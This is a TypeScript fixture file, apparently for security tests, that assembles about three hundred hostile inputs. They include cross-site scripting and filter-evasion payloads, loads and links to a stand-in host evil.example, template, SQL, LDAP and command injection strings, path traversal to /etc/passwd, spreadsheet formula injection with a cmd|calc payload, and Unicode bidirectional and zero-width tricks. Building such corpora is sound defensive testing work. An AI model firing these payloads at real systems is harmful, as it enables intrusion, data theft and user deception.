/*
 * Text that somebody might send to harm who reads it, by family. What would run calls `struck()`, which a page that is
 * being watched defines; what would load comes from another host. None carries NUL or half a character, which the
 * product refuses, nor nine digits in a row, which staff cannot write.
 */

const HIT = 'struck()';
const HOST = '//evil.example';

/** Ways out of the place that a text might be put into by string. */
const ESCAPES = ['', '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>'];

const TAGS = [
  `<script>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`,
  `<svg onload=${HIT}>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<style>@import "${HOST}/x.css"</style>`,
];

const ELEMENTS = [
  'body onload',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'video src=x onerror',
  'audio src=x onerror',
  'marquee onstart',
  'object data=x onerror',
  'p style="animation:a" onanimationstart',
  'div contenteditable autofocus onfocus',
  'svg><animate attributeName=x dur=1s onbegin',
  'svg><set attributeName=x onbegin',
  'math><mtext onpointerenter',
  'button popovertarget=x onclick',
].map((element) => `<${element}=${HIT}>`);

const DISGUISES = [
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script\n>${HIT}</script\t>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<img/src=x/onerror=${HIT}>`,
  `<img src=x onerror\n=${HIT}>`,
  `<img src=x onerror=&#115;truck()>`,
  `<IMG """><SCRIPT>${HIT}</SCRIPT>">`,
  `<<script>${HIT}//<</script>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `\\u003cscript\\u003e${HIT}`,
  `\\x3cscript\\x3e${HIT}`,
  `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${HIT}`,
  `<!--[if IE]><script>${HIT}</script><![endif]-->`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<math><mi><mglyph><style><img src=x onerror=${HIT}>`,
  `<svg><style><img src=x onerror=${HIT}></style>`,
  `<form id=x></form><button form=x formaction=javascript:${HIT}>x`,
  `<base href=${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<link rel=stylesheet href=${HOST}/x.css>`,
  `<link rel=prefetch href=${HOST}/x>`,
  `<object data=${HOST}/x></object>`,
  `<embed src=${HOST}/x>`,
  `<img src=${HOST}/x.png>`,
  `<img srcset="${HOST}/x.png 1x">`,
  `<video poster=${HOST}/x.png></video>`,
  `<iframe src=${HOST}></iframe>`,
  `<form action=${HOST}><input name=a></form>`,
  `<div style="background:url(${HOST}/x)">`,
  `<img name=cookie><img id=location>`,
];

const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'vbscript:', 'livescript:'];
const ADDRESSES = [
  ...SCHEMES.map((scheme) => `${scheme}${HIT}`),
  `data:text/html,<script>${HIT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${HIT}>`,
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  `https:${HOST}/?x=1#y`,
  `${HOST}/x`,
  `\\\\evil.example\\x`,
  `https://fairlead.example@evil.example/`,
  'mailto:a@evil.example?subject=x',
];
const LINKS = ADDRESSES.flatMap((address) => [
  address,
  `[x](${address})`,
  `![x](${address})`,
  `<${address}>`,
]);

const TEMPLATES = [
  `{{${HIT}}}`,
  `{{constructor.constructor('${HIT}')()}}`,
  `{{{${HIT}}}}`,
  `{${HIT}}`,
  '{name}',
  '{count, plural, other {#}}',
  '{amount, number}',
  `\${${HIT}}`,
  `#{${HIT}}`,
  `<%= ${HIT} %>`,
  `<? ${HIT} ?>`,
  `[[${HIT}]]`,
  `@(${HIT})`,
  `*{${HIT}}`,
  `{% raw %}${HIT}{% endraw %}`,
  `{php}${HIT}{/php}`,
  '{{7*7}}',
  '$t(common.cancel)',
  '%s %d %n %x',
  '%(name)s',
];

const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", ';=', ',='].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}HYPERLINK("http:${HOST}","x")`,
  `${sign}cmd|' /C calc'!A0`,
]);

const QUERIES = [
  "' or '1'='1",
  "'; drop table staff; --",
  '" or ""="',
  "') union select null --",
  '1; select pg_sleep(9)',
  '\\',
  "\\'; --",
  '$$; --',
  '%',
  '_',
  '{"$gt":""}',
  '*)(uid=*',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '; cat /etc/passwd',
  '| id',
  '`id`',
  '$(id)',
  '\r\nSet-Cookie: a=b',
  '\r\n\r\n<script>struck()</script>',
];

const WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '[]',
  '{}',
  '[object Object]',
  '-0',
  '1e309',
  '0x10',
  '\\0',
  '\\u0000',
  '%00',
  '&#0;',
  '&amp;amp;',
  '&nbsp;',
  '&zwnj;&lrm;',
  '\\r\\n',
];

const MARKS = [
  '\u202egnp.exe',
  '\u202e$00.001\u202c',
  '\u2066\u202etfel ot thgir\u2069',
  '\u200f\u200f\u200f',
  '\u200b\u200b\u200b',
  '\u200d',
  '\ufeff',
  '\u2060\u2061\u2062',
  '\u00ad\u00ad',
  '\u0301\u0301\u0301',
  `Z${'\u0335\u0317\u030d'.repeat(12)}`,
  '\u0007\u0008\u001b[31m',
  '\u007f\u0080\u009f',
  '\u2028\u2029',
  '\ufffd\ufffe\uffff',
  '\u{e0001}\u{e0041}',
  '\u3164\u115f',
  '\u0e47\u0e47\u0e47\u0e47',
  '\ufdfd',
  '\u{1242b}',
  '\u05d0\u05d1 abc \u0627\u0644',
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66',
  '\ud83c\udff4\u200d\u2620\ufe0f',
  '\ud83c\uddfa\ud83c\uddf3',
  '\ud83d\udc4d\ud83c\udfff',
  '1\ufe0f\u20e3',
  '\ud83e\udd2f'.repeat(12),
];

const LONG = [
  'W'.repeat(118),
  'i'.repeat(118),
  '\u5bbd'.repeat(80),
  '\u0e17'.repeat(80),
  `${'a/'.repeat(50)}z`,
  'word-'.repeat(20),
  '_'.repeat(118),
  '\u00a0'.repeat(60),
  '\n'.repeat(40),
  '\t'.repeat(40),
  `<${'b'.repeat(100)}>`,
  '<div>'.repeat(20),
  '(((((((((('.repeat(8),
];

const broken = ESCAPES.flatMap((before) => TAGS.map((tag) => `${before}${tag}`));
const attributes = ELEMENTS.flatMap((element) => [element, `"${element}`]);
const quoted = ['"', "'", '`'].map((quote) => `${quote} onmouseover=${HIT} x=${quote}`);

/** Some three hundred, each another. */
export const PAYLOADS: readonly string[] = [
  ...broken,
  ...attributes,
  ...quoted,
  ...DISGUISES,
  ...LINKS,
  ...TEMPLATES,
  ...FORMULAS,
  ...QUERIES,
  ...WORDS,
  ...MARKS,
  ...LONG,
];
